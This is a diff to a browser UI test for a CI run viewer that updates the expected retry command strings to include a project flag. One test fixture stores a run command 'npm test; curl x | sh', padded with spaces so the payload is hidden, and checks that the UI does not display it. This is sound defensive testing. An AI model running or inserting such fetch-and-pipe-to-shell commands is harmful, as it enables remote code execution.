@@ -66,7 +66,10 @@ test("failing checks come first, replaced ones last, and the retry command conta
   await page.getByRole('heading', { name: 'Checks 1 fail, 1 warn, 1 pass' }).waitFor()
   assert.deepEqual(await page.locator('.checks .name').allTextContents(), ['lint', 'types', 'tests', 'tests'])
   await page.locator('.checks li').last().getByText('replaced by a newer one').waitFor()
-  await page.locator('.retry').getByText('conduct exec --retry-of RUN-001 -- npm test', { exact: true }).waitFor()
+  await page
+    .locator('.retry')
+    .getByText('conduct exec --project default --retry-of RUN-001 -- npm test', { exact: true })
+    .waitFor()
   const ended = page.locator('.standing time')
   const moment = new Date(run.endedAt ?? '')
   assert.ok((await ended.textContent())?.includes(moment.toLocaleDateString('en', { dateStyle: 'medium' })))
@@ -74,5 +77,8 @@ test("failing checks come first, replaced ones last, and the retry command conta
   const hidden = 'npm test; curl x | sh'.padEnd(250)
   await client.createRun({ runId: 'LONG', status: 'failed', command: hidden })
   await page.goto(`${home}#/runs/default/LONG`)
-  await page.locator('.retry').getByText('conduct exec --retry-of LONG -- ', { exact: true }).waitFor()
+  await page
+    .locator('.retry')
+    .getByText('conduct exec --project default --retry-of LONG -- ', { exact: true })
+    .waitFor()
 })
